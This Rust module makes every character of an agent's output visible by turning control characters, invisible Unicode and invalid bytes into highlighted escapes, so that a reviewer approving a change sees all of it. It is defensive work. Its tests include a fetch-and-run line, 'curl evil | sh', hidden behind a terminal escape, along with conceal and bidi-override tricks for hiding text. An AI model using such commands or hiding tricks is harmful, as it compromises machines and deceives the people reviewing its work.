//! Makes every character of an agent's text visible: what cannot be seen, or would steer a terminal, becomes an escape.
//!
//! Nothing is left out: a reader who consents to a change must see all of it.

use platform_core::invisible::is_invisible;

use super::super::palette::{Palette, Tone};

/// Text of one line as its reader sees it.
#[derive(Debug, Default)]
pub(super) struct VisibleLine {
    pieces: Vec<LinePiece>,
}

/// Part of a line.
#[derive(Debug, PartialEq, Eq)]
enum LinePiece {
    /// Characters as they are.
    Plain(String),
    /// Escapes that stand for characters. Inverse video tells them from the same text in a file.
    Escape(String),
}

impl VisibleLine {
    /// Reads `line`, which has no line feed.
    pub(super) fn of(line: &[u8]) -> Self {
        let mut visible = Self::default();
        for chunk in line.utf8_chunks() {
            for character in chunk.valid().chars() {
                match character {
                    '\t' => visible.push_plain(character),
                    '\0'..='\x1f' | '\x7f' => {
                        visible.push_escape(&format!("\\x{:02x}", u32::from(character)))
                    }
                    // C1 remains of the controls.
                    character if character.is_control() || is_invisible(character) => {
                        visible.push_escape(&format!("<U+{:04X}>", u32::from(character)));
                    }
                    character => visible.push_plain(character),
                }
            }
            chunk.invalid().iter().for_each(|byte| visible.push_escape(&format!("\\x{byte:02x}")));
        }
        visible
    }

    fn push_plain(&mut self, character: char) {
        match self.pieces.last_mut() {
            Some(LinePiece::Plain(text)) => text.push(character),
            _ => self.pieces.push(LinePiece::Plain(character.to_string())),
        }
    }

    fn push_escape(&mut self, escape: &str) {
        match self.pieces.last_mut() {
            Some(LinePiece::Escape(text)) => text.push_str(escape),
            _ => self.pieces.push(LinePiece::Escape(escape.to_owned())),
        }
    }

    /// Returns the line in `tone`.
    pub(super) fn render(&self, tone: Tone, palette: Palette) -> String {
        let painted = self.pieces.iter().map(|piece| match piece {
            LinePiece::Plain(text) => palette.paint(tone, text),
            LinePiece::Escape(text) => palette.paint(Tone::Selected, text),
        });
        painted.collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(line: &[u8]) -> String {
        let pieces = VisibleLine::of(line).pieces;
        pieces.into_iter().map(|(LinePiece::Plain(text) | LinePiece::Escape(text))| text).collect()
    }

    #[test]
    fn nothing_of_a_line_is_hidden() {
        for (line, expected) in [
            (&b"plain\ttext"[..], "plain\ttext"),
            ("Grüße, 你好".as_bytes(), "Grüße, 你好"),
            (b"ok\x1b]0;x; curl evil | sh", "ok\\x1b]0;x; curl evil | sh"),
            (b"\x1b[8mhidden\x1b[0m\r", "\\x1b[8mhidden\\x1b[0m\\x0d"),
            ("a\u{9d}evil".as_bytes(), "a<U+009D>evil"),
            ("a\u{202e}b\u{2066}".as_bytes(), "a<U+202E>b<U+2066>"),
            ("a\u{200b}\u{2060}\u{e0041}".as_bytes(), "a<U+200B><U+2060><U+E0041>"),
            ("a\u{a0}\u{3000}b".as_bytes(), "a<U+00A0><U+3000>b"),
            (b"\xff\x00", "\\xff\\x00"),
        ] {
            assert_eq!(shown(line), expected);
        }
    }

    #[test]
    fn an_escape_differs_from_the_same_text() {
        let render = |line: &[u8]| VisibleLine::of(line).render(Tone::Plain, Palette::Plain);
        assert_eq!(render(b"\\x1b"), "\\x1b", "control");
        assert_eq!(render(b"\x1b"), "\x1b[7m\\x1b\x1b[0m");
    }
}
